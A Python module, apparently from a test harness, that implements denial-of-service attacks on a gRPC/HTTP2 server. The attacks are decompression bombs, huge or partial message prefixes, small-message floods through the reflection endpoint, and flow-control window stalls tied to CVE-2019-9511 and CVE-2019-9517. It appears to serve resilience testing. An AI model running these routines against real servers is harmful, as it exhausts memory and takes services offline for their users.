"""Attacks by messages, sent and received."""

import contextlib
import functools
import gzip
import time
import zlib

from attacks import frames
from attacks.connection import Connection
from attacks.frames import string
from attacks.outcome import Outcome
from attacks.target import LARGE, Target
from harness.wire import SERVICE, framed

# Streams that may be open at once.
STREAMS = 256
# Compressed messages, one after the other.
BOMBS = 10
MESSAGE = 4 << 20
# How many large answers fit into the memory that one connection may take.
FITTING = (64 << 20) // LARGE
# Connections that fill the memory that all of them together may take, a GiB, and a few more.
CONNECTIONS = 18
# What anybody may call, and what makes it say a lot.
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
DESCRIBE = framed(b"\x22" + string(SERVICE.removeprefix("/")))
# Answers after which its handler waits for the client to take them: 64 KiB, and more.
ANSWERS = 20
# Bytes that a client may send on a stream before a handler takes them.
STREAM_WINDOW = 256 << 10
# Windows that never close, of the connection beside what it begins with.
WIDE = (1 << 31) - 1
WIDEN = frames.window_update(0, WIDE - 65_535)


def huge_length(target: Target, hold: float) -> Outcome:
    """Prefixes of messages that say 4 GiB, of which not a byte follows."""
    with target.connect() as attacker:
        for n in range(STREAMS):
            stream = 1 + 2 * n
            prefix = frames.data(stream, b"\0\xff\xff\xff\xff")
            attacker.send(frames.headers(stream, target.head()) + prefix)
        return attacker.answered(STREAMS)


def partial_messages(target: Target, hold: float) -> Outcome:
    """Half as many messages of 4 MiB as there may be streams, all of each but its last bytes."""
    prefix = b"\0" + frames.number(MESSAGE)
    piece = bytes(64 << 10)
    with target.connect() as attacker:
        open_streams = [1 + 2 * n for n in range(STREAMS // 2)]
        for stream in open_streams:
            attacker.send(frames.headers(stream, target.head()) + frames.data(stream, prefix))
        # Round by round, each as much as its window surely has; all of them grow alike.
        for _ in range(MESSAGE // len(piece) - 1):
            for stream in open_streams:
                attacker.upload(stream, piece)
            if attacker.is_over:
                break
        attacker.ping()
        attacker.finish(hold)
        return attacker.outcome


def small_messages(target: Target, hold: float, count: int = STREAMS // 2) -> Outcome:
    """Messages of a byte, 40,000 on a stream, each of which costs far more to keep than to send;
    by nobody, to a handler that waits for a window."""
    head = target.head(path=REFLECTION, token=None)
    questions = DESCRIBE * ANSWERS
    tiny = framed(b"x")
    body = questions + tiny * ((STREAM_WINDOW - len(questions)) // len(tiny))
    with target.connect(opening=frames.settings(window=0)) as attacker:
        for n in range(count):
            stream = 1 + 2 * n
            attacker.send(frames.headers(stream, head))
            attacker.upload(stream, body)
        attacker.ping()
        attacker.finish(hold)
        return attacker.outcome


@functools.cache
def bomb(size: int = 512 << 20) -> bytes:
    """A gzip of so many zeros: a thousandth of it."""
    compressor = zlib.compressobj(9, wbits=31)
    zeros = bytes(1 << 20)
    pieces = [compressor.compress(zeros) for _ in range(size >> 20)]
    return b"".join(pieces) + compressor.flush()


def decompression_bomb(target: Target, hold: float) -> Outcome:
    """Half a megabyte of gzip that would be half a gigabyte, again and again."""
    return _compressed(target, bomb())


def nested_bomb(target: Target, hold: float) -> Outcome:
    """A gzip of a gzip: only the outer one is the transport's."""
    return _compressed(target, gzip.compress(bomb()))


def _compressed(target: Target, message: bytes) -> Outcome:
    with target.connect() as attacker:
        for n in range(BOMBS):
            stream = 1 + 2 * n
            attacker.send(frames.headers(stream, target.head(grpc_encoding="gzip")))
            attacker.upload(stream, framed(message, flag=1))
            attacker.send(frames.data(stream, end_stream=True))
            attacker.answered(n + 1)
        return attacker.outcome


def zero_window(target: Target, hold: float, count: int = STREAMS) -> Outcome:
    """CVE-2019-9511, CVE-2019-9517: many large answers for which there is no window."""
    with target.connect(opening=frames.settings(window=0)) as attacker:
        _ask(attacker, target, count)
        # Those that fit wait for a window for ever.
        attacker.answered(count - FITTING)
        attacker.finish(hold)
        return attacker.outcome


def never_read(target: Target, hold: float, count: int = STREAMS) -> Outcome:
    """The same with windows that never close, and a socket that is not read."""
    opening = frames.settings(window=WIDE) + WIDEN
    with target.connect(takes_answers=False, opening=opening) as attacker:
        _ask(attacker, target, count)
        time.sleep(hold)
        return attacker.outcome


def zero_windows(target: Target, hold: float) -> Outcome:
    """The same on so many connections that together they may take all memory for messages."""
    outcome = Outcome()
    with contextlib.ExitStack() as opened:
        for _ in range(CONNECTIONS):
            attacker = target.connect(opening=frames.settings(window=0))
            opened.enter_context(attacker)
            _ask(attacker, target, 2 * FITTING)
            attacker.answered(FITTING)
            outcome.add(attacker.outcome)
        time.sleep(hold)
    return outcome


def _ask(attacker: Connection, target: Target, count: int):
    # At once: when the first answer waits, the last call has been read.
    attacker.send(b"".join(target.call(1 + 2 * n, target.large) for n in range(count)))
